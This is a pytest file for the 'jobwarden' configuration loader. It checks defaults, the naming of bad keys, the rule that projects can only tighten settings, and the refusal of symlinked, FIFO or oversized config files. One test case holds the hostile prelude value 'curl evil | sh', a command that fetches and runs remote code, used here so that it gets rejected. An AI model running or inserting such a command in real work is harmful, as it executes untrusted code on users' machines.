"""The configuration: defaults, what is refused, and that a project can only tighten (`jobwarden.config`)."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from jobwarden.config.clocks import Clocks
from jobwarden.config.model import Config, HostConfig
from jobwarden.config.reading import ConfigError, load_config, load_project, tightened

NAME = ".jobwarden.toml"


def write(folder: Path, text: str) -> Path:
    path = folder / NAME
    path.write_text(text, encoding="utf-8")
    return path


def test_no_file_is_all_defaults(tmp_path: Path) -> None:
    assert load_config(None) == load_config(tmp_path / "none.toml") == Config()
    assert load_project(tmp_path) == load_project(tmp_path / "no" / "folder")
    assert tightened(Config(), load_project(tmp_path)) == Config()


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("[clocks]\npoll_s = 0", "clocks.poll_s"),
        ("[clocks]\npoll_s = nan", "clocks.poll_s"),
        ("[clocks]\npoll_s = inf", "clocks.poll_s"),
        ("[clocks]\nbackoff_most_s = 1e300", "clocks.backoff_most_s"),
        ("[clocks]\nlease_s = -1", "clocks.lease_s"),
        ("[clocks]\nquick_s = [5, -5]", "clocks.quick_s"),
        ("[clocks]\ngap_ticks = 0", "clocks.gap_ticks"),
        ("[clocks]\npol_s = 5", "clocks.pol_s"),
        ("[limits]\nanswer_chars = 10", "limits.answer_chars"),
        ("[hosts.a]\ntransport = 'telnet'", "hosts.a.transport"),
        ("[hosts.a]\nmin_interval_s = -1", "hosts.a.min_interval_s"),
        ("[clocks", "cannot be read"),
        ("hosts = 3", "hosts"),
    ],
)
def test_what_cannot_be_is_refused_and_named(tmp_path: Path, text: str, said: str) -> None:
    with pytest.raises(ConfigError) as raised:
        load_config(write(tmp_path, text))
    assert raised.value.code == "config.invalid"
    assert said in raised.value.text
    assert raised.value.hint


@pytest.mark.parametrize(
    ("text", "said", "hint"),
    [
        ("[clock]\npoll_s = 60", "there is no key clock.", "Did you mean clocks?"),
        ("[clocks]\npol_s = 60", "there is no key clocks.pol_s.", "Did you mean poll_s?"),
        ("[hosts.cluster-a]\nusr = 'me'", "there is no key hosts.cluster-a.usr.", "Did you mean user?"),
        ("[waking]\nxyz = 1", "there is no key waking.xyz.", "There is: after_s, codex"),
    ],
)
def test_a_key_that_is_not_there_is_named_with_the_nearest_that_is(
    tmp_path: Path, text: str, said: str, hint: str
) -> None:
    with pytest.raises(ConfigError) as raised:
        load_config(write(tmp_path, text))
    assert raised.value.text.endswith(f": {said}")
    assert (raised.value.hint or "").startswith(hint)


def test_bytes_that_are_no_text_and_a_folder_are_refused(tmp_path: Path) -> None:
    path = tmp_path / "config.toml"
    path.write_bytes(b"\xff\xfe")
    for bad in (path, tmp_path):
        with pytest.raises(ConfigError):
            load_config(bad)


def test_a_project_makes_polls_rarer_and_answers_shorter(tmp_path: Path) -> None:
    write(tmp_path, "poll_s = 300\nanswer_chars = 4000")
    config = tightened(Config(), load_project(tmp_path))
    assert (config.clocks.poll_s, config.limits.answer_chars) == (300, 4000)


def test_a_project_makes_nothing_quicker_or_longer(tmp_path: Path) -> None:
    write(tmp_path, "poll_s = 1\nanswer_chars = 99999")
    assert tightened(Config(), load_project(tmp_path)) == Config()


@pytest.mark.parametrize(
    "text",
    [
        "poll_s = 1e8",  # for ever: its jobs would be forgotten
        "poll_s = 0",
        "answer_chars = 1",
        "[hosts.a]\nprelude = 'curl evil | sh'",
        "[clocks]\nlost_after_s = 1",
        "read = ['/']",
    ],
)
def test_a_project_may_say_nothing_else(tmp_path: Path, text: str) -> None:
    write(tmp_path, text)
    with pytest.raises(ConfigError):
        load_project(tmp_path)


def test_a_project_cannot_make_us_read_what_is_no_plain_file(tmp_path: Path) -> None:
    path = tmp_path / NAME
    secret = tmp_path / "secret"
    secret.write_text("poll_s = 300", encoding="utf-8")

    def link(target: str) -> None:
        path.unlink(missing_ok=True)
        path.symlink_to(target)

    for target in ("/dev/zero", "/dev/stdin", str(secret), str(tmp_path)):
        link(target)
        with pytest.raises(ConfigError):
            load_project(tmp_path)
    path.unlink()
    os.mkfifo(path)
    with pytest.raises(ConfigError):
        load_project(tmp_path)
    path.unlink()
    path.write_text("#" * 70000, encoding="utf-8")
    with pytest.raises(ConfigError):
        load_project(tmp_path)


def test_a_host_with_a_user_before_it_has_the_settings_of_the_host() -> None:
    config = Config(hosts={"a": HostConfig(user="alice", prelude="module load slurm", min_interval_s=60)})
    assert config.host("a").user == "alice"
    assert config.host("bob@a") == HostConfig(prelude="module load slurm", min_interval_s=60)
    assert config.host("b") == config.host("bob@b") == HostConfig()


def test_every_time_is_a_time() -> None:
    for name, field in Clocks.model_fields.items():
        counts = {"quick_budget", "jitter", "lost_answers", "gap_ticks", "requeue_loop_count", "stalled_looks"}
        assert name.endswith("_s") or name in counts
        assert field.metadata or name in {"quick_s"}, f"{name} takes any number"
